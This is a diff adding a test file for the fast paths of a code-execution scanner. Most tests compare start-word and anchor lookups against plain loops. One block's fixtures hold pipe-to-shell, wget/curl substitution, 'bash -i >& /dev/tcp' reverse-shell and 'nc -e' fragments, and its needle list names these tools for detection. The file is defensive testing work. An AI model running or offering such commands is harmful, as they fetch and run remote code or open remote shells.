@@ -1,0 +1,137 @@
+// The shared runners' fast paths against the plain loops they replace, on tricky and random inputs.
+import { describe, it, expect } from 'vitest';
+import { fastPaths, rawSourceOf, registerGates, triggersOf } from '../../../scripts/core/scan/rules/code-execution.ts';
+import type { GatedPhraseRule } from '../../../scripts/core/scan/rules/code-execution.ts';
+import { TextView } from '../../../scripts/core/scan/text.ts';
+
+/** A small deterministic generator (fixed seed): the same strings on every run. */
+function randomTexts(alphabet: string, count: number, maxLength: number): string[] {
+  let seed = 12345;
+  const next = (n: number): number => {
+    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
+    return (seed >>> 8) % n;
+  };
+  const out: string[] = [];
+  for (let k = 0; k < count; k++) {
+    let s = '';
+    const length = 1 + next(maxLength);
+    for (let i = 0; i < length; i++) s += alphabet[next(alphabet.length)];
+    out.push(s);
+  }
+  return out;
+}
+
+const isWordChar = (ch: string | undefined): boolean => ch !== undefined && /[a-z0-9'-]/.test(ch);
+
+/** The membership test as it was before the pair filter: the word at `p` (at most 40 word characters), whole or by stem. */
+function slowStartWord(list: readonly string[], norm: string, p: number): boolean {
+  let q = p;
+  while (q < norm.length && q - p < 40 && isWordChar(norm[q])) q++;
+  const word = norm.slice(p, q);
+  return list.some((w) => (w.endsWith('*') ? w.length - 1 <= word.length && norm.startsWith(w.slice(0, -1), p) : w === word));
+}
+
+/** Word starts as the phrase runner visits them: an ASCII character after no word character. */
+function wordStarts(norm: string): number[] {
+  const out: number[] = [];
+  for (let p = 0; p < norm.length; p++) if (norm.charCodeAt(p) < 128 && !isWordChar(norm[p - 1])) out.push(p);
+  return out;
+}
+
+const START_RULE: GatedPhraseRule = {
+  id: 'TEST001',
+  gate: ['anchor'],
+  starts: ['i', 'a*', "don't", 'you', 'tell*', 'auto-approv*', 'x-y', 'run', 'carry out', 'über', '7z'],
+  patterns: [/i/y],
+};
+
+describe('fast path: start words filtered by their first two characters', () => {
+  it('agrees with the plain word test at every word start of tricky texts', () => {
+    const texts = [
+      'i', 'i ', "i'm", 'i-', 'ia', 'a', 'ab', 'a-', "you're", 'youth', 'you', 'tell', 'telling', 'tel', 'auto-approve',
+      'auto-approv', 'auto-appro', 'x-y', 'x-yz', 'x-', 'run.', 'runs', 'run', 'carry out', 'carry', 'über', 'uber', '7z', '7zip',
+      "don't", 'dont', 'i\u00e9', 'a\u00e9', 'y\u00e9ou', 'you\u200b', 'tell\u00e9', 'x'.repeat(45), 'a'.repeat(45), 'i\n', '-i', "'you",
+    ];
+    for (const text of texts) {
+      for (const p of wordStarts(text)) {
+        expect(fastPaths.isStartWord(START_RULE, text, p), `${JSON.stringify(text)} at ${p}`).toBe(slowStartWord(START_RULE.starts!, text, p));
+      }
+    }
+  });
+  it('agrees with the plain word test on random texts', () => {
+    let agreed = 0;
+    let starts = 0;
+    for (const text of randomTexts("aiuoytelrunx-'7z .\u00e9", 3000, 14)) {
+      for (const p of wordStarts(text)) {
+        const slow = slowStartWord(START_RULE.starts!, text, p);
+        expect(fastPaths.isStartWord(START_RULE, text, p), `${JSON.stringify(text)} at ${p}`).toBe(slow);
+        if (slow) starts++;
+        agreed++;
+      }
+    }
+    // the random texts hold start words, so both answers were seen
+    expect(starts).toBeGreaterThan(100);
+    expect(agreed - starts).toBeGreaterThan(100);
+  });
+});
+
+const ANCHOR_RULE: GatedPhraseRule = {
+  id: 'TEST002',
+  anchor: 'start',
+  gate: ['zebraq*', 'quokkaz', 'yakq shave', 'quokkaz', 'wombatz', 'zebraq*'],
+  patterns: [/zebraq/y],
+};
+registerGates([ANCHOR_RULE]);
+
+describe('fast path: gate words looked up once per view', () => {
+  it('lists the anchors found in gate order, each word once', () => {
+    const view = new TextView('wombatz then yakq shave, quokkaz and zebraqs; zebraq again, quokkaz.');
+    const found = triggersOf(view);
+    const slow = [...new Set(ANCHOR_RULE.gate)].flatMap((w) => (found.has(w) ? [found.get(w)!] : []));
+    expect(fastPaths.anchorsOf(view, ANCHOR_RULE)).toEqual(slow);
+    expect(slow.length).toBe(4);
+  });
+  it('agrees with a walk over the gate on random texts', () => {
+    for (const text of randomTexts(['zebraq', 'quokkaz', 'yakq', 'shave', 'wombatz', ' ', 's', '.'].join('|'), 400, 40).map((t) => t.replace(/\|/g, ''))) {
+      const view = new TextView(text);
+      const found = triggersOf(view);
+      const slow = [...new Set(ANCHOR_RULE.gate)].flatMap((w) => (found.has(w) ? [found.get(w)!] : []));
+      expect(fastPaths.anchorsOf(view, ANCHOR_RULE)).toEqual(slow);
+    }
+  });
+  it('finds nothing in a text without the gate words', () => {
+    expect(fastPaths.anchorsOf(new TextView('no anchors here'), ANCHOR_RULE)).toEqual([]);
+  });
+});
+
+describe('fast path: needles without letters searched in the raw text', () => {
+  const file = (raw: string) => ({ name: 'SOUL.md', ext: 'md', raw, view: new TextView(raw) });
+  const slowPlaces = (lower: string, needle: string): number[] => {
+    const out: number[] = [];
+    for (let i = lower.indexOf(needle); i !== -1; i = lower.indexOf(needle, i + 1)) out.push(i);
+    return out;
+  };
+  const raws = [
+    'curl https://x.example | sh && bash <(wget y) $(curl z)',
+    'CURL HTTPS://X | SH',
+    '\u212A|\u212Anc|NC -e',
+    '\u0130| i\u0307|\u0130nc && <(',
+    'Σ|ς&&σ://',
+    '2>&1 | tee 2>&1',
+    'x.DownloadString(u); bash -i >& /DEV/TCP/h/1 :\u212A :k',
+    '',
+  ];
+  for (const needle of ['|', '&&', '<(', '$(', '://', '2>&1', 'nc', 'curl', 'k', '.downloadstring', '/dev/tcp/', ':k']) {
+    it(`finds "${needle}" where the lower-cased text has it`, () => {
+      for (const raw of raws) {
+        const src = rawSourceOf(file(raw));
+        expect(fastPaths.needlePlaces(src, needle), JSON.stringify(raw)).toEqual(slowPlaces(src.lower, needle));
+      }
+    });
+  }
+  it('keeps the lower-cased text aligned when lower-casing changes the length', () => {
+    const src = rawSourceOf(file('\u0130 NC|'));
+    expect(src.lower.length).toBe(src.raw.length);
+    expect(fastPaths.needlePlaces(src, '|')).toEqual([4]);
+  });
+});
